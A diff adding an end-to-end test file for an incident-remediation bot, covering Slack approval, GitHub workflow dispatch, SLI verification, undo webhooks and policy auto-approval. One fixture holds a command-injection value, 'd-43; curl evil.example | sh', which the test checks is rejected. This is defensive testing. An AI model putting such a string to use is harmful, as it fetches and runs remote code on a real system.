@@ -1,0 +1,224 @@
+// Remediation end to end: propose, Approve in Slack, the GitHub workflow dispatched, the SLI re-read, undo and escalate.
+import { createHmac } from 'node:crypto';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { buildProposalBlocks } from '../../../blocks/approval.js';
+import type { ChatBlock } from '../../../src/incidents/chat-notifier.js';
+import type { InvestigationResult } from '../../../src/investigation/ports.js';
+import { proposeRemediations, type RemediationProposal } from '../../../src/remediation/propose-remediations.js';
+import { GITHUB_TOKEN, ROLLFORWARD_SECRET, startRemediationLoop, waitFor, type RemediationLoop } from './harness.js';
+
+const badDeploy: InvestigationResult = {
+  novel: false,
+  hypotheses: [
+    {
+      category: 'bad_deploy',
+      service: 'checkout',
+      cause: 'd-42',
+      confidence: 0.86,
+      summary: 'Deploy d-42 of checkout preceded the 5xx spike',
+      evidence: [{ kind: 'deploy', ref: 'd-42', detail: 'deployed 4 min before' }],
+    },
+  ],
+  suggestedStep: null,
+};
+
+let loop: RemediationLoop;
+afterEach(async () => {
+  await loop?.stop();
+});
+
+/** Proposes for the incident and posts the proposal with its buttons, as the briefing does; returns the message ts. */
+async function proposeAndPost(incidentId: number, channel: string, result = badDeploy): Promise<{ proposal: RemediationProposal; ts: string }> {
+  const [proposal] = await proposeRemediations(loop.ctx, incidentId, result);
+  expect(proposal).toBeDefined();
+  const posted = await loop.ctx.chat.postMessage(channel, 'Proposed remediation', buildProposalBlocks(proposal!) as unknown as ChatBlock[]);
+  return { proposal: proposal!, ts: posted.ts };
+}
+
+function messageTexts(channel: string): string[] {
+  return loop.slack.messages(channel).map((m) => JSON.stringify(m.blocks ?? m.text));
+}
+
+async function runRow(id: number): Promise<Record<string, unknown>> {
+  return (await loop.ctx.knex('remediation_runs').where({ id }).first()) as Record<string, unknown>;
+}
+
+describe('approving a proposed remediation', () => {
+  beforeEach(async () => {
+    loop = await startRemediationLoop();
+  });
+
+  it("by the service's on-call dispatches the workflow with the filled inputs, and a recovered SLI mitigates the incident", async () => {
+    loop.healOnDispatch();
+    const { incidentId, channel } = await loop.openIncident();
+    const { proposal, ts } = await proposeAndPost(incidentId, channel);
+    expect(proposal).toMatchObject({ action: 'rollback_deploy', service: 'checkout', cause: 'd-42', status: 'proposed', autoApproved: false });
+
+    const delivery = await loop.slack.act.clickButton(loop.url, { user: 'U0PRIMARY', actionId: 'remediation_approve', channel, ts });
+    expect(delivery.status).toBe(200);
+
+    await waitFor('the workflow dispatch', () => loop.github.dispatches.length === 1);
+    expect(loop.github.dispatches[0]).toMatchObject({
+      owner: 'acme',
+      repo: 'checkout-deploys',
+      workflow: 'rollback.yml',
+      ref: 'main',
+      inputs: { service: 'checkout', deploy: 'd-42', incident: 'INC-1' },
+      authorization: `token ${GITHUB_TOKEN}`,
+    });
+
+    await waitFor('the incident to be mitigated', async () => (await loop.ctx.knex('incidents').where({ id: incidentId }).first())?.status === 'mitigated');
+    const run = await runRow(proposal.runId);
+    expect(run).toMatchObject({ status: 'verified', approved_by: 'U0PRIMARY', external_ref: 'https://github.test/acme/checkout-deploys/actions/runs/9000' });
+
+    const timeline = (await loop.ctx.knex('incident_events').where({ incident_id: incidentId }).orderBy('id')) as { type: string; actor: string }[];
+    expect(timeline.map((e) => `${e.type}:${e.actor}`)).toEqual(
+      expect.arrayContaining([
+        'remediation.proposed:copilot',
+        'remediation.policy_decision:U0PRIMARY',
+        'remediation.approved:U0PRIMARY',
+        'remediation.succeeded:copilot',
+        'remediation.verified:copilot',
+        'incident.mitigated:copilot',
+      ]),
+    );
+    const spans = (await loop.ctx.knex('investigation_spans').where({ incident_id: incidentId })) as { name: string; attributes: Record<string, unknown> }[];
+    expect(spans).toHaveLength(1);
+    expect(spans[0]!.attributes).toMatchObject({ 'copilot.policy.allowed': true, 'copilot.policy.rule': 'approver_oncall', 'enduser.id': 'U0PRIMARY' });
+
+    await waitFor('the verdict in the channel', () => messageTexts(channel).some((t) => t.includes('the SLI recovered; I marked the incident mitigated')));
+    const texts = messageTexts(channel);
+    expect(texts.some((t) => t.includes('approved by <@U0PRIMARY>; running it now'))).toBe(true);
+    expect(texts.some((t) => t.includes('finished.') && t.includes('Follow the run'))).toBe(true);
+  });
+
+  it('by someone not allowed dispatches nothing and tells them why, privately', async () => {
+    const { incidentId, channel } = await loop.openIncident();
+    const { proposal, ts } = await proposeAndPost(incidentId, channel);
+
+    await loop.slack.act.clickButton(loop.url, { user: 'U0BYSTANDER', actionId: 'remediation_approve', channel, ts });
+
+    const told = await waitFor('an ephemeral answer', () => loop.slack.ephemerals('U0BYSTANDER')[0]);
+    expect(told.text).toBe('You may not approve `rollback_deploy`: only the on-call for checkout or the incident commander may approve it.');
+    expect(told.channel).toBe(channel);
+    expect(loop.slack.ephemerals('U0PRIMARY')).toHaveLength(0);
+    expect(loop.github.dispatches).toHaveLength(0);
+    expect(await runRow(proposal.runId)).toMatchObject({ status: 'proposed', approved_by: null });
+    const decision = await loop.ctx.knex('incident_events').where({ incident_id: incidentId, type: 'remediation.policy_decision' }).first();
+    expect(decision).toMatchObject({ actor: 'U0BYSTANDER', data: expect.objectContaining({ allowed: false, rule: 'approver_not_allowed' }) });
+  });
+
+  it('applies once when clicked twice and by two allowed people at the same moment', async () => {
+    const { incidentId, channel } = await loop.openIncident({ commander: 'U0MANAGER' });
+    const { proposal, ts } = await proposeAndPost(incidentId, channel);
+
+    await Promise.all([
+      loop.slack.act.clickButton(loop.url, { user: 'U0PRIMARY', actionId: 'remediation_approve', channel, ts }),
+      loop.slack.act.clickButton(loop.url, { user: 'U0MANAGER', actionId: 'remediation_approve', channel, ts }),
+      loop.slack.act.clickButton(loop.url, { user: 'U0PRIMARY', actionId: 'remediation_approve', channel, ts }),
+    ]);
+    await waitFor('the run to finish', async () => ['succeeded', 'verified', 'not_recovered'].includes((await runRow(proposal.runId)).status as string));
+    await loop.slack.act.clickButton(loop.url, { user: 'U0MANAGER', actionId: 'remediation_approve', channel, ts });
+    await waitFor('the late click to be answered', () => loop.slack.ephemerals('U0MANAGER').length >= 1);
+
+    expect(loop.github.dispatches).toHaveLength(1);
+    const approvals = await loop.ctx.knex('incident_events').where({ incident_id: incidentId, type: 'remediation.approved' });
+    expect(approvals).toHaveLength(1);
+    const approver = (await runRow(proposal.runId)).approved_by as string;
+    expect(['U0PRIMARY', 'U0MANAGER']).toContain(approver);
+    const ignored = await loop.ctx.knex('incident_events').where({ incident_id: incidentId, type: 'remediation.click_ignored' });
+    expect(ignored.length).toBeGreaterThanOrEqual(1);
+    expect(loop.slack.ephemerals('U0MANAGER').at(-1)!.text).toMatch(/^`rollback_deploy` \(run #\d+\) was already approved by <@U0(PRIMARY|MANAGER)>/);
+  });
+
+  it('that does not bring the SLI back offers Undo and Escalate, and Undo sends the signed roll-forward webhook', async () => {
+    const { incidentId, channel } = await loop.openIncident();
+    const { proposal, ts } = await proposeAndPost(incidentId, channel);
+    await loop.slack.act.clickButton(loop.url, { user: 'U0PRIMARY', actionId: 'remediation_approve', channel, ts });
+
+    const verdict = await waitFor('the not-recovered verdict', () =>
+      loop.slack.messages(channel).find((m) => JSON.stringify(m.blocks ?? []).includes('did not bring the SLI back')),
+    );
+    const buttons = (verdict.blocks as { type: string; elements?: { action_id: string; value: string }[] }[]).find((b) => b.type === 'actions')!.elements!;
+    expect(buttons.map((b) => [b.action_id, b.value])).toEqual([
+      ['remediation_undo', `remediation-run:${proposal.runId}`],
+      ['incident_escalate', String(incidentId)],
+    ]);
+    expect(await runRow(proposal.runId)).toMatchObject({ status: 'not_recovered' });
+    expect((await loop.ctx.knex('incidents').where({ id: incidentId }).first()).status).toBe('triggered');
+
+    await loop.slack.act.clickButton(loop.url, { user: 'U0PRIMARY', actionId: 'remediation_undo', channel, ts: verdict.ts });
+    const hook = await waitFor('the roll-forward webhook', () => loop.webhooks.find((w) => w.path === '/roll-forward'));
+    const undoRun = await loop.ctx.knex('remediation_runs').where({ undo_of: proposal.runId }).first();
+    expect(hook.headers['idempotency-key']).toBe(String(undoRun.id));
+    expect(hook.headers['x-signature']).toBe(`sha256=${createHmac('sha256', ROLLFORWARD_SECRET).update(hook.body).digest('hex')}`);
+    expect(JSON.parse(hook.body)).toEqual({
+      runId: String(undoRun.id),
+      action: 'redeploy',
+      incident: 'INC-1',
+      service: 'checkout',
+      cause: 'd-42',
+      inputs: {},
+    });
+    await waitFor('the original run to be undone', async () => (await runRow(proposal.runId)).status === 'undone');
+    await waitFor('the undo to be posted', () => messageTexts(channel).some((t) => t.includes('was undone')));
+  });
+
+  it('is refused while another remediation of the incident is in flight', async () => {
+    const { incidentId, channel } = await loop.openIncident();
+    const { proposal } = await proposeAndPost(incidentId, channel);
+    // A restart of checkout was approved a moment ago and is still running.
+    await loop.ctx.knex('remediation_runs').insert({ incident_id: incidentId, action: 'restart_service', service: 'checkout', status: 'running', proposed_by: 'copilot' });
+    const { approveRemediation } = await import('../../../src/remediation/approve-remediation.js');
+    const r = await approveRemediation(loop.ctx, { runId: proposal.runId, userId: 'U0PRIMARY' });
+    expect(r.outcome).toBe('denied');
+    expect(r.message).toMatch(/^Another remediation \(`restart_service`, run #\d+\) is still in flight for this incident/);
+    expect(loop.github.dispatches).toHaveLength(0);
+  });
+});
+
+describe('proposing remediations', () => {
+  beforeEach(async () => {
+    loop = await startRemediationLoop({ autoRemediate: true });
+  });
+
+  it('proposes only catalog actions for the hypotheses, once, and never for a cause that is not an id', async () => {
+    const { incidentId } = await loop.openIncident();
+    const result: InvestigationResult = {
+      novel: false,
+      hypotheses: [
+        { ...badDeploy.hypotheses[0]! },
+        { category: 'config_change', service: 'checkout', cause: 'flag-1', confidence: 0.4, summary: 'flag flip', evidence: [] },
+        { category: 'bad_deploy', service: 'checkout', cause: 'd-43; curl evil.example | sh', confidence: 0.3, summary: 'x', evidence: [] },
+      ],
+      suggestedStep: null,
+    };
+    const first = await proposeRemediations(loop.ctx, incidentId, result);
+    // revert_change is not in the catalog; the malformed cause is dropped.
+    expect(first.map((p) => [p.action, p.cause, p.status])).toEqual([['rollback_deploy', 'd-42', 'proposed']]);
+    const again = await proposeRemediations(loop.ctx, incidentId, result);
+    expect(again.map((p) => p.runId)).toEqual(first.map((p) => p.runId));
+    expect(await loop.ctx.knex('remediation_runs').where({ incident_id: incidentId })).toHaveLength(1);
+    expect(await proposeRemediations(loop.ctx, incidentId, { novel: true, hypotheses: [], suggestedStep: null })).toEqual([]);
+    // High risk: even with autoRemediate on, policy leaves it to a person.
+    expect(loop.github.dispatches).toHaveLength(0);
+  });
+
+  it('lets policy run a confident, low-risk action without a click, recorded as decided by policy', async () => {
+    loop.healAt(Date.now());
+    const { incidentId, channel } = await loop.openIncident();
+    const [proposal] = await proposeRemediations(loop.ctx, incidentId, {
+      novel: false,
+      hypotheses: [{ category: 'memory_leak', service: 'checkout', cause: null, confidence: 0.9, summary: 'RSS grows until OOM', evidence: [] }],
+      suggestedStep: null,
+    });
+    expect(proposal).toMatchObject({ action: 'restart_service', status: 'approved', autoApproved: true });
+
+    const hook = await waitFor('the restart webhook', () => loop.webhooks.find((w) => w.path === '/restart'));
+    expect(JSON.parse(hook.body)).toMatchObject({ action: 'restart_service', service: 'checkout', incident: 'INC-1' });
+    expect(await runRow(proposal!.runId)).toMatchObject({ approved_by: 'policy' });
+    const decision = await loop.ctx.knex('incident_events').where({ incident_id: incidentId, type: 'remediation.policy_decision' }).first();
+    expect(decision).toMatchObject({ actor: 'policy', data: expect.objectContaining({ allowed: true, needsHuman: false, rule: 'auto_allowed' }) });
+    await waitFor('the approval notice', () => messageTexts(channel).some((t) => t.includes('approved by policy; running it now')));
+  });
+});
